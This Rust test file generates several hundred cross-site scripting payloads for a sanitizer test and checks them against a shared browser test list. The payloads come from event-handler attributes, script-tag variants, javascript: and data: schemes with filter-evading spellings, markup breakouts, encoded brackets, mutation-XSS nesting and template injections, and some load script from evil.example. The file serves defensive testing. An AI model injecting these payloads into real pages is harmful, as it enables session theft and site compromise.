//! Hostile pieces of HTML, made from parts: elements, handlers, ways to write an address, ways to break out, ways to hide a bracket.
//! The list that they make is `end2end/vectors.json`, so that the same pieces are tried here and in a browser. Our own making; no list
//! of anybody else's was copied.

use std::{collections::BTreeSet, fs, path::PathBuf};

/// What each piece would do if it could.
const WORK: [&str; 4] = ["alert(1)", "confirm`1`", "top['al'+'ert'](1)", "import('//evil.example/x.js')"];

const ELEMENTS: [&str; 22] = [
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "marquee",
    "select autofocus",
    "iframe src=x",
    "object data=x",
    "math",
    "a href=# tabindex=1",
    "button",
    "form",
    "p contenteditable",
    "x-own tabindex=1",
    "dialog open",
    "textarea autofocus",
    "style",
    "link rel=stylesheet href=x",
    "source srcset=x",
];
const HANDLERS: [&str; 9] = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onclick", "onanimationstart", "ONPOINTERENTER", "onbeforetoggle"];
const GAPS: [&str; 6] = [" ", "/", "\t", "\n", "\u{c}", " / "];
const QUOTES: [(&str, &str); 5] = [("", ""), ("\"", "\""), ("'", "'"), ("\"\n", "\n\""), (" ", " ")];

const SCRIPTS: [&str; 10] = [
    "<script>W</script>",
    "<sCrIpT>W</ScRiPt>",
    "<script\t>W</script\n>",
    "<script>W",
    "<script src=//evil.example/x.js></script>",
    "<script/x>W</script>",
    "<svg><script>W</script></svg>",
    "<scr<script>ipt>W</scr</script>ipt>",
    "<script type=module>W</script>",
    "<!--><script>W</script-->",
];

const SCHEMES: [&str; 11] = [
    "javascript:W",
    "vbscript:W",
    "data:text/html,<script>W</script>",
    "data:image/svg+xml,<svg onload=W>",
    "data:text/html;base64,PHNjcmlwdD4",
    "file:///etc/passwd",
    "blob:x",
    "filesystem:x",
    "feed:javascript:W",
    "view-source:javascript:W",
    "jar:javascript:W",
];
/// Where an address can stand.
const PLACES: [&str; 12] = [
    "[x](U)",
    "[x](<U>)",
    "[x][1]\n\n[1]: U",
    "<U>",
    "![x](U)",
    "<a href=\"U\">x</a>",
    "<iframe src='U'></iframe>",
    "<form action='U'><button>x</button></form>",
    "<svg><a xlink:href='U'><text>x</text></a></svg>",
    "<meta http-equiv=refresh content='0;url=U'>",
    "<base href='U'>",
    "<embed src='U'>",
];

const WAYS_OUT: [&str; 14] =
    ["\">", "'>", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "</noscript>", "</template>", "</svg>", "}}", "`>", "</p></div></main>"];
const BODIES: [&str; 3] = ["<img src=x onerror=W>", "<svg onload=W>", "<script>W</script>"];

/// Without a bracket: new attributes for the element that the words stand in.
const ATTRIBUTES: [&str; 8] = [
    "\" onmouseover=\"W",
    "' onfocus='W' autofocus='",
    "` onclick=`W",
    " onload=W ",
    "\"\tstyle=\"background:url(javascript:W)",
    "x\" autofocus onfocus=\"W",
    "\" formaction=\"javascript:W",
    "\" srcdoc=\"<script>W</script>",
];
/// Brackets that somebody might undo once too often.
const BRACKETS: [&str; 12] = ["&lt;", "&#60;", "&#x3c;", "&#0000060", "\\u003c", "%3C", "+ADw-", "\u{ff1c}", "\u{2039}", "\\x3c", "&LT;", "&amp;lt;"];
/// Elements in which the rules of reading change.
const OUTER: [&str; 8] = ["math", "svg", "noscript", "template", "select", "table", "annotation-xml encoding=text/html", "foreignObject"];
const INNER: [&str; 7] = ["style", "title", "mglyph", "textarea", "xmp", "plaintext", "desc"];
const LINES: [&str; 10] = ["# ", "## Steps: ", "> ", "> **Caution: ", "- ", "- [ ] ", "1. ", "    ", "```", "| a |\n|---|\n| "];
const TEMPLATES: [&str; 8] = ["{{constructor.constructor('W')()}}", "${W}", "<%= W %>", "#{W}", "{%W%}", "[[W]]", "*{W}", "{{_self.env}}"];
const STYLES: [&str; 6] = [
    "<p style='position:fixed;inset:0'>x</p>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='width:expression(W)'>",
    "<style>*{background:url(javascript:W)}</style>",
    "<p class='btn' id='submit'>",
    "<input name=action id=q form=x>",
];

/// The parts, put together; every piece once.
pub fn made() -> Vec<String> {
    let mut all = BTreeSet::new();
    let mut turn = 0;
    // Not every combination, but every part with many partners: the turn moves on with each piece.
    let mut next = |of: usize| {
        turn += 1;
        turn % of
    };
    for element in ELEMENTS {
        for handler in HANDLERS {
            let (open, close) = QUOTES[next(QUOTES.len())];
            let gap = GAPS[next(GAPS.len())];
            all.insert(format!("<{}{gap}{handler}={open}W{close}>", element.replace(' ', gap)));
        }
    }
    all.extend(SCRIPTS.map(String::from));
    for scheme in SCHEMES {
        for spelling in spellings(scheme) {
            for _ in 0..2 {
                all.insert(PLACES[next(PLACES.len())].replace('U', &spelling));
            }
        }
    }
    for way in WAYS_OUT {
        all.extend(BODIES.map(|body| format!("{way}{body}")));
    }
    for attribute in ATTRIBUTES {
        all.extend([
            attribute.to_owned(),
            format!("[x](https://a.example/{attribute})"),
            format!("![{attribute}](a.svg)"),
            format!("[x](/en \"{attribute}\")"),
        ]);
    }
    for bracket in BRACKETS {
        all.extend(BODIES.map(|body| body.replace('<', bracket)));
    }
    for outer in OUTER {
        let close = outer.split(' ').next().unwrap_or_default();
        all.extend(INNER.map(|inner| format!("<{outer}><{inner}></{close}><img src=x onerror=W></{inner}>")));
    }
    for line in LINES {
        all.extend(BODIES.map(|body| format!("{line}{body}")));
    }
    all.extend(TEMPLATES.map(String::from));
    all.extend(STYLES.map(String::from));
    all.into_iter().enumerate().map(|(n, piece)| piece.replace('W', WORK[n % WORK.len()])).collect()
}

/// The ways to write a scheme so that a list of forbidden words misses it.
fn spellings(scheme: &str) -> Vec<String> {
    let (head, tail) = scheme.split_at(4);
    let first = u32::from(scheme.as_bytes()[0]);
    let mixed: String = scheme.chars().enumerate().map(|(n, c)| if n % 2 == 0 && n < 10 { c.to_ascii_uppercase() } else { c }).collect();
    vec![
        scheme.to_owned(),
        mixed,
        format!("{head}\t{tail}"),
        format!("{head}\n{tail}"),
        format!("\u{1}{scheme}"),
        format!(" {scheme}"),
        format!("&#{first};{}", &scheme[1..]),
        format!("&#x{first:X}{}", &scheme[1..]),
        scheme.replacen(':', "&colon;", 1),
        scheme.replacen(':', "%3A", 1),
        format!("{head}\u{ad}{tail}"),
        format!("//evil.example/{scheme}"),
    ]
}

/// The list as it stands in the file: one piece on a line.
fn written() -> String {
    let lines: Vec<String> = made().iter().map(|piece| serde_json::to_string(piece).unwrap()).collect();
    format!("[\n{}\n]\n", lines.join(",\n"))
}

#[test]
fn the_list_for_the_browser_is_this_one() {
    let file = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("end2end/vectors.json");
    if std::env::var_os("WRITE_VECTORS").is_some() {
        fs::write(&file, written()).unwrap();
    }
    assert_eq!(
        fs::read_to_string(file).unwrap(),
        written(),
        "write it anew: WRITE_VECTORS=1 cargo test --features ssr --test product the_list_for_the_browser"
    );
    assert!(made().len() >= 500, "{}", made().len());
}
